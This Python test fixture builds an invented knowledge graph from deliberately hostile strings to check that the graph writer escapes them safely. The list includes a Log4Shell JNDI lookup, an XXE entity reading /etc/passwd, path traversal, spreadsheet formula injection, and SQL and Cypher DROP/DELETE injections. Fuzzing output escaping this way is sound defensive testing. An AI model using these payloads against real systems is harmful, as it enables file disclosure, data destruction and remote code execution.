"""An invented graph in which every kind of name, title and quote is as hostile as an article can make it."""

import io

from kg.graph.build import write
from kg.model import Entity, Fact, Found, Mention, Merge, Name, Resolved, Tenure
from tests.graph.sample import HOSTILE, Text

WORDS = [
    *(words for words in HOSTILE if words.strip()),
    '=HYPERLINK("http://x.example","按此")',
    "=1+1",
    "+86 10, \"双引号\", '单引号'; 分号|竖线",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rReturn first",
    "'apostrophe first",
    "＝SUM（A1）",
    "第一行，\n第二行\r\n\r\n第四行 \\",
    'ends with a backslash and a quote \\"',
    "]]> <!-- & &amp; &#10; -->",
    "[[people/x|y]] ![[z]] [a](javascript:alert(1)) `code` %%hidden%% $x$ ==y== ^z #tag",
    "../../etc/passwd",
    "CON",
    ".hidden",
    "- item\n# heading\n> quote\n1. one\n```\n---\n| a | b |",
    "x" * 300,
    "長" * 40_000,
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "${jndi:ldap://x.example/a} {{7*7}} %s %n",
    "; DROP TABLE people; --",
    "`}) MATCH (n) DETACH DELETE n //",
]


def turtle() -> bytes:
    """The graph: for each of the words a person, post title, meeting, project, organization, site, award and quote."""
    articles, entities = [], [Entity("place/9902", "place", "柳安市", "Liu'an", (), {"code": "990200"})]
    for number, words in enumerate(WORDS):
        articles.append(_article(number, words))
        entities += _entities(number, words)
    stream = io.BytesIO()
    done = write(stream, sorted(entities, key=lambda one: one.id), articles)
    assert not done.bugs, done.bugs[0][:300]
    return stream.getvalue()


def _entities(number: int, words: str) -> list[Entity]:
    merge = Merge(f"a: {words}", f"b: {words}", words, words)
    tenure = Tenure("party-secretary", "9902", None, "2031-03-05", "2031-03-06", "2031-04-01", (_key(number),))
    return [
        Entity(f"person/h-{number}", "person", words, None, (words, "别名", f"又名{words}"), {}, (merge,), (tenure,)),
        Entity(f"meeting/h-{number}", "meeting", words, words, (), {"date": "2031-03-05", "end": "2031-03-06"}),
        Entity(f"project/h-{number}", "project", words, None, (words,), {}),
        Entity(f"organization/h-{number}", "organization", words, None, (), {"organ": words}),
        Entity(f"site/h-{number}", "site", None, None, (words,), {}),
    ]


def _article(number: int, words: str) -> Resolved:
    text = Text(words, f"{words}，又说：{words}")
    quote = text.span(words)
    name = Name(words, words, quote, quote)
    kinds = ("person", "meeting", "project", "organization", "site")
    more = {"project": {"phase": words, "industry": words, "investment": words, "status": words}, "site": {}}
    mentions = [
        Mention(
            place,
            kind,
            [name, Name(f"又名{words}", words, quote, quote)],
            {"zh": words, **more.get(kind, {"area": "9902"})},
        )
        for place, kind in enumerate(kinds)
    ]
    del mentions[0].info["area"]
    status = ("holds", "appointed", "elected", "nominated", "removed", "resigned", "former")[number % 7]
    day = {"date": "2031-03-05"} if number % 3 else {"date": "--03-05"}
    post = {"role": "party-secretary", "title": words, "area": "9902", "status": status, **day}
    facts = [
        Fact("post", 0, None, quote, words, 0.5, post),
        Fact(
            "post", 0, None, quote, "bureau", 0.5, {"role": "department-head", "organization": "3", "status": "holds"}
        ),
        Fact(
            "participation", 0, 1, quote, words, 0.25, {"as": ("attended", "presided", "spoke", "reported")[number % 4]}
        ),
        Fact("encounter", 0, 2, quote, words, 0.125, {"type": "visited", **day}),
        Fact("encounter", 0, 4, quote, words, 1.0, {"type": "visited"}),
        Fact("award", 0, None, quote, words, 0.75, {"name": words}),
        Fact("spoke_for", 3, 1, quote, words, 0.75),
    ]
    article = text.article(
        _key(number),
        f"{words}.txt",
        ("zh-Hans", "zh-Hant", "en")[number % 3],
        title=words,
        published="2031-03-06" if number % 2 else None,
        publisher=words,
        url=words,
    )
    return Resolved(article, Found(mentions, facts), {place: f"{kind}/h-{number}" for place, kind in enumerate(kinds)})


def _key(number: int) -> str:
    return f"{number:016x}"
